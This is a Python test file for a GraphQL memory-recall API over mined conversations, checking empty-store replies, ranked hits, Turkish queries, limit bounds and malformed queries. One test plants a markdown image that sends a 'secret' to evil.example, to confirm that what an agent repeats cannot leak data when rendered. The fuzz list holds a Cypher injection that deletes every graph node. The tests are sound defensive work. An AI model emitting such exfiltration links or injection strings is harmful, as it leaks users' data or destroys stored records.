"""Recall and mining through GraphQL, from the empty store to hostile queries."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from tests.api.conftest import MINE, Client, conversation

RECALL = """query($query: String!, $limit: Int! = 10) { recall(query: $query, limit: $limit) { __typename
  ... on Recollection {
    hits { score reason wing room closet signals { name value } ranks { arm rank }
      drawer { pointer text speaker role saidAt position tags language embedded sourceId } }
    language strategy terms candidates notes latencyMs { name value } }
  ... on Problem { code field message remedy } } }"""


async def test_an_empty_store_says_so(client: Client) -> None:
    found = (await client.data(RECALL, query="Where does Ada live?"))["recall"]
    assert found["hits"] == []
    assert found["strategy"] == "NONE"
    assert "mine a conversation" in found["notes"][0]
    assert (await client.data("{ palace { nodes { name } edges { cursor } pageInfo { hasNextPage endCursor } } }")) == {
        "palace": {"nodes": [], "edges": [], "pageInfo": {"hasNextPage": False, "endCursor": None}}
    }


async def test_what_was_mined_is_recalled_with_its_reason(client: Client) -> None:
    assert (await client.data(MINE, input=conversation()))["mineConversation"]["filed"] == 3
    found = (await client.data(RECALL, query="When did Ada move to Izmir?"))["recall"]
    best = found["hits"][0]
    assert best["drawer"]["text"] == "I moved to Izmir in May."
    assert best["drawer"]["pointer"] == "§ W-001/R-01/D-001"
    assert best["drawer"]["saidAt"] == "2026-05-08T13:56:00+00:00"
    assert best["drawer"]["role"] == "user"
    assert best["reason"]
    assert 0 < best["score"] <= 1
    assert {signal["name"] for signal in best["signals"]} >= {"similarity", "text"}
    assert {rank["arm"] for rank in best["ranks"]} >= {"vector", "text"}
    assert found["candidates"] == 3
    assert found["strategy"] != "NONE"
    assert found["language"] == "en"
    assert "total" in {stage["name"] for stage in found["latencyMs"]}


async def test_turkish(client: Client) -> None:
    await client.data(MINE, input=conversation())
    found = (await client.data(RECALL, query="Ada sabahları denize giriyor mu?", limit=1))["recall"]
    assert found["language"] == "tr"
    assert [hit["drawer"]["text"] for hit in found["hits"]] == ["Her sabah denize giriyorum."]


@pytest.mark.parametrize("form", ["TEXT", "JSON"])
async def test_a_block_holds_no_image_and_no_link(client: Client, form: str) -> None:
    """A client that renders what an agent repeats would ask the address for the image, with what stands in it."""
    said = "The harbour map of Izmir is ![map](https://evil.example/?q=secret) and [here](https://evil.example/b)."
    await client.data(MINE, input=conversation(turns=[{"speaker": "Ada", "text": said}]))
    document = """query($form: BlockFormat!) { recall(query: "Where is the harbour map of Izmir?", format: $form) {
      ... on Recollection { context } } }"""
    block = (await client.data(document, form=form))["recall"]["context"]
    assert "![map] (https://evil.example/?q=secret)" in block, "the words and the address can be read"
    rendered = MarkdownIt("commonmark").render(block)
    assert ("<img" in rendered, "<a " in rendered) == (False, False)


@pytest.mark.parametrize("limit", [0, -1, 201, 2**31 - 1])
async def test_a_limit_out_of_bounds_is_data(client: Client, limit: int) -> None:
    found = (await client.data(RECALL, query="x", limit=limit))["recall"]
    assert (found["__typename"], found["code"], found["field"]) == ("InvalidInput", "INVALID_INPUT", "limit")
    assert "1 to 200" in found["remedy"]


@pytest.mark.parametrize(
    "query",
    [
        "",
        "   ",
        '+-&&||!(){}[]^"~*?:\\/ AND OR NOT title:"x" [a TO b] {* TO *}',
        '"unclosed',
        "(((",
        "/regex/",
        "*:*",
        "🙈🙉🙊 👩‍👩‍👧‍👦",
        "İIıi ŞĞÜ",
        "\u0000",
        "\u202e backwards",
        "'; MATCH (n) DETACH DELETE n //",
        "$owner",
        "x" * 100_000,
        "word " * 20_000,
    ],
    ids=lambda query: repr(query[:20]),
)
async def test_any_query_is_answered(client: Client, query: str) -> None:
    await client.data(MINE, input=conversation())
    found = (await client.data(RECALL, query=query))["recall"]
    assert found["__typename"] == "Recollection"


async def test_a_query_of_megabytes_is_refused_as_data(client: Client) -> None:
    found = (await client.data(RECALL, query="x" * 1_000_000))["recall"]
    assert found["field"] == "query"


async def test_half_a_surrogate_pair(client: Client) -> None:
    await client.data(MINE, input=conversation())
    response = await client.http.post(
        "/graphql",
        content=rb"""{"query": "query($q: String!) { recall(query: $q) { __typename } }",
          "variables": {"q": "a \ud83d b"}}""",
        headers={"content-type": "application/json"},
    )
    assert response.json()["data"] == {"recall": {"__typename": "Recollection"}}
